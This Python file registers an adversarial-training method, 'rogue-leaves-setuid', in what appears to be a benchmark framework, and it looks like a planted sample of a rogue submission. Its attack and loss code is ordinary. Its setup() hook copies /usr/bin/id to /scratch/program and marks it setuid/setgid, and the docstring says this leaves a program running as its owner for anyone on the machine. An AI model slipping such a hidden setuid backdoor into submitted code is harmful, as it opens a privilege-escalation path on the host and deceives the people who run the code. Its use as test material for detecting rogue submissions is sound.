"""It leaves a program that runs as its owner, for whoever finds it on the machine."""

from pathlib import Path

from torch import Tensor

from bench import Attack, Batch, Method, Nets, register
from bench.inner import against_labels
from bench.losses import cross_entropy


@register(
    "rogue-leaves-setuid",
    version="1",
    family="adversarial-training",
    reference="arXiv:0000.00000",
    authors="A Rogue",
    licence="Apache-2.0",
)
class LeavesSetuid(Method):
    """Adversarial training with a way back."""

    def setup(self, nets: Nets) -> None:
        program = Path("/scratch/program")
        program.write_bytes(Path("/usr/bin/id").read_bytes())
        program.chmod(0o6755)

    def attack(self, nets: Nets, batch: Batch) -> Attack:
        return against_labels(nets, batch)

    def loss(self, nets: Nets, batch: Batch) -> Tensor:
        return cross_entropy(nets.student(batch.x_adv), batch.y)
